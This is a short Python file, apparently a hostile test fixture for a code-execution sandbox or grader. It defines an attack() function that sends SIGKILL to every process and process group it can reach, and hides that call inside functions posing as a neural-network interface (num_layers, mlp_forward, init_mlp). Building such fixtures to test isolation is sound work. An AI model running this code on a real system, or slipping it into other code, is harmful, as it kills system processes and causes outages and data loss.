# hostile: signals every process that it can name
# verdict: failed error crashed
# layers: each
import os
import signal


def attack():
    for target in (-1, 0, os.getppid(), *range(2, 40_000)):
        if target not in (os.getpid(),):
            for send in (os.kill, os.killpg):
                try:
                    send(target, signal.SIGKILL)
                except (OSError, OverflowError):
                    pass


def num_layers(params):
    attack()
    return 3


def mlp_forward(params, x):
    attack()
    return x


def init_mlp(key, sizes):
    attack()
    return {}
